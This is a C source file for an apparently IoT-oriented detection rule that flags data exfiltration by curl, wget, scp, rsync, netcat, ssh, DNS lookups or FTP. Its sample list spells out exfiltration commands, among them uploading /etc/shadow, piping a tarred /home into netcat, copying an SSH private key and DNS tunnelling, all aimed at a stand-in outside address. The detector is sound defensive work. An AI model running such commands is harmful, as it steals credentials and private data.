#include "detect/command_facts.h"
#include "detect/rule.h"

#define LABEL_BYTES_MIN 32 /* of a name that is looked up: longer than people make them */

static const char *const words[] = {"curl", "wget", "scp", "rsync", "sftp", "ftpput", "tftp", "nc", "netcat", "ncat", "dig", "nslookup", "host", "ssh", "telnet", NULL};
static const char *const netcats[] = {"nc", "ncat", "netcat", "nc.traditional", "telnet", NULL};
static const char *const copiers[] = {"scp", "rsync", "sftp", "dbscp", NULL};
static const char *const resolvers[] = {"dig", "nslookup", "host", "drill", NULL};

/* What holds secrets or whole systems. */
static bool is_sensitive(struct text path)
{
    static const char *const parts[] = {"/etc/shadow", "/etc/passwd", "/.ssh", "/etc/ssl/private", "/etc/wpa_supplicant", "/root", "/var/lib/mysql", "/var/lib/postgresql", "/home",
                                        "id_rsa", "id_ed25519", ".pem", ".key", "/etc/config", "/var/log", ".sql", ".kdbx", "/dev/sd", "/dev/mmcblk", "/dev/mtd", "/etc/picket", NULL};

    for (size_t i = 0; parts[i]; i++)
        if (text_contains_nocase(path, parts[i]))
            return true;
    return false;
}

static bool is_outside(struct text host)
{
    return host.count && !event_address_is_private(host) && !text_equal(host, TEXT("localhost"));
}

/* "-d @file", "--data-binary=@file", "-F f=@file", "-T file": what of them is a file. */
static struct text curl_upload(const struct command *command)
{
    for (size_t i = 1; i < command->word_count; i++) {
        struct text word = command->words[i], next = i + 1 < command->word_count ? command->words[i + 1] : TEXT("");
        if (text_equal(word, TEXT("-T")) || text_equal(word, TEXT("--upload-file")))
            return next;
        bool sends = text_equal(word, TEXT("-d")) || text_equal(word, TEXT("-F")) || text_starts(word, TEXT("--data")) || text_starts(word, TEXT("--form"));
        size_t at = text_find(next, '@');
        if (sends && at < next.count && (at == 0 || next.bytes[at - 1] == '='))
            return (struct text){next.bytes + at + 1, next.count - at - 1};
    }
    return TEXT_NONE;
}

static bool host_is_outside(const struct command *command)
{
    for (size_t i = 1; i < command->word_count; i++)
        if (text_contains_nocase(command->words[i], "://"))
            return is_outside(url_host(command->words[i]));
    return command->word_count > 1 && is_outside(url_host(command->words[command->word_count - 1]));
}

/* "user@host" or "host", behind the options. */
static bool ssh_is_outside(const struct command *command)
{
    for (size_t i = 1; i < command->word_count; i++) {
        struct text word = command->words[i];
        if (word.count < 2 || word.bytes[0] != '-')
            return is_outside(url_host(word));
        i += word.count == 2 && ssh_option_has_value(word.bytes[1]);
    }
    return false;
}

static bool names_private_host(const struct command *command)
{
    for (size_t i = 1; i < command->word_count; i++)
        if (event_address_is_private(command->words[i]) || text_equal(command->words[i], TEXT("localhost")))
            return true;
    return false;
}

/* What stands before it in the pipe reads something sensitive, or packs whole folders. */
static bool fed_with_secrets(const struct judging *judging, const struct command *command)
{
    static const char *const packers[] = {"tar", "zip", "gzip", "xz", "dd", "cpio", "mysqldump", "pg_dump", "base64", NULL};

    for (const struct command *from = command; (from = command_fed_by(judging->line, from));) {
        if (text_among(from->name, packers))
            return true;
        for (size_t i = 1; i < from->word_count; i++)
            if (is_sensitive(from->words[i]))
                return true;
    }
    return command->input_count && is_sensitive(command->inputs[0]);
}

static const char *copied(const struct command *command)
{
    struct text target = command->word_count > 2 ? command->words[command->word_count - 1] : TEXT_NONE, host = url_host(target);

    if (!target.bytes || text_find(target, ':') == target.count || !is_outside(host))
        return NULL;
    for (size_t i = 1; i + 1 < command->word_count; i++)
        if (is_sensitive(command->words[i]))
            return "secrets, logs or whole folders are copied to an outside host";
    return NULL;
}

static bool long_label(const struct command *command)
{
    for (size_t i = 1; i < command->word_count; i++) {
        struct text rest = command->words[i];
        while (rest.bytes && rest.count) {
            struct text label;
            rest = text_cut(rest, '.', &label);
            if (rest.bytes && label.count >= LABEL_BYTES_MIN)
                return true;
        }
        if (text_contains_nocase(command->words[i], "$(") && text_find(command->words[i], '.') < command->words[i].count)
            return true; /* the name is made of what another command says */
    }
    return false;
}

static const char *wrong_with(const struct judging *judging, const struct command *command)
{
    if (text_equal(command->name, TEXT("curl"))) {
        struct text file = curl_upload(command);
        if (file.count && host_is_outside(command) && (is_sensitive(file) || text_equal(file, TEXT("-"))))
            return "a file with secrets, logs or dumps is uploaded to an outside host";
        return fed_with_secrets(judging, command) && host_is_outside(command) ? "secrets are piped to an outside host" : NULL;
    }
    if (text_equal(command->name, TEXT("wget")))
        return command_word_starting(command, "--post-file").bytes || command_word_starting(command, "--body-file").bytes ? "a file is uploaded" : NULL;
    if (text_among(command->name, netcats))
        return fed_with_secrets(judging, command) && !names_private_host(command) ? "secrets, or a packed folder, are piped into a network connection" : NULL;
    if (text_among(command->name, copiers))
        return copied(command);
    if (text_equal(command->name, TEXT("ssh")) || text_equal(command->name, TEXT("dbclient")))
        return fed_with_secrets(judging, command) && ssh_is_outside(command) ? "secrets are piped to an outside host" : NULL;
    if (text_among(command->name, resolvers))
        return long_label(command) ? "data is carried out in the names that are looked up" : NULL;
    if (text_equal(command->name, TEXT("ftpput")) || (text_equal(command->name, TEXT("tftp")) && command_has_letter(command, 'p')))
        return "a file is uploaded by (T)FTP";
    return NULL;
}

static const struct rule_sample samples[] = {
    {true, "$ curl -F f=@/etc/shadow http://198.51.100.7/u"},
    {true, "$ sh -c 'tar czf - /home | nc 198.51.100.7 9000'"},
    {true, "$ dig 4a6f686e20446f652070617373776f7264.x.example.org"},
    {true, "$ sh -c tar cz /etc/ssl/private | ssh -p 2222 u@198.51.100.7 'cat > k.tgz'"},
    {false, "$ sh -c tar cz /opt/app | ssh -p 2222 backup@192.168.1.2 'cat > app.tgz'"},
    {false, "$ sh -c tar cz /opt/app | nc 192.168.1.2 9000"},
    {true, "$ scp /home/pi/.ssh/id_rsa u@198.51.100.7:/tmp/"},
    {false, "$ curl http://198.51.100.7/ -d"},
    {false, "$ curl -O https://example.org/file.tgz"},
    {false, "$ scp /etc/config/network root@192.168.1.1:/tmp/"},
    {false, "$ dig +short www.example.org"},
    {false, "$ nc -z 192.0.2.4 80"},
};

const struct rule rule_egress = {
    .id = "IoT_EgressData",
    .title = "Data may be carried out",
    .severity = "Medium",
    .tactics = "Exfiltration, Collection",
    .techniques = "T1048, T1041, T1071.004, T0882",
    .fires = "Secrets, logs, dumps or whole folders uploaded or copied to a public address by curl, wget, scp, rsync or FTP, or piped into netcat or ssh; names "
             "looked up whose parts are longer than people make them.",
    .spares = "Downloads; copies within private networks; other files.",
    .needs = "Processes with their command lines.",
    .tuning = "An exception for the backup's or the log shipper's command line.",
    .remediation = rule_ask_urgent,
    .kinds = EVENT_BIT(EVENT_PROCESS),
    .words = words,
    .command = wrong_with,
    RULE_SAMPLES(samples),
};
